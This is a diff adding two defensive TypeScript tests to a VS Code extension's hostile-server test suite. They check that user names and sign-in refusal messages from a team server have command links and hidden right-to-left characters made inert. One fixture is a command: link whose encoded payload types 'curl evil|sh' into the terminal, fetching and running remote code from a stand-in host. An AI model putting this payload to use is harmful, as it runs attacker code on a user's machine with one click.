@@ -183,4 +183,38 @@ describe('a hostile team server against a connected developer (every approval re
       await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
     }
   });
+
+  // VS Code renders [label](target) in a notification as a link and opens command: targets too, so text a server
+  // chose, shown in "connected as …" or "could not connect: …", could run any command on one click.
+  const commandLink = '[Enter your API key again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
+
+  it('a user name with a command link or hidden characters is shown inert, not as a link', async () => {
+    server.setUser(`alice ${commandLink} \u202Eevil`);
+    const url = `grpcs://localhost:${server.port}`;
+    try {
+      const status = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
+      assert.equal(status.state, 'connected', JSON.stringify(status));
+      assert.doesNotMatch(status.user ?? '', /\]\(/, 'no [label](target) link is left in the name');
+      assert.match(status.user ?? '', /^alice \[Enter your API key again\] \(command:.*⟨U\+202E⟩evil$/, 'the name is still shown, every character of it visible');
+    } finally {
+      server.setUser('victim');
+      await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
+    }
+  });
+
+  it('a refused sign-in whose reason carries a command link is reported with the link made inert', async () => {
+    server.refuseSignIn(`Your key expired. ${commandLink}`);
+    const url = `grpcs://localhost:${server.port}`;
+    try {
+      const message = await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' }).then(
+        () => assert.fail('the sign-in was refused'),
+        (err: { data?: { message?: string } }) => err.data?.message ?? '',
+      );
+      assert.match(message, /^The team server did not accept the sign-in: Your key expired\. \[Enter your API key again\] \(command:/, message);
+      assert.doesNotMatch(message, /\]\(/, 'no [label](target) link is left in the message');
+    } finally {
+      server.refuseSignIn(undefined);
+      await client.connection.sendRequest(TeamConnectRequest.type, { url, apiKey: 'hearth_any_key' });
+    }
+  });
 });
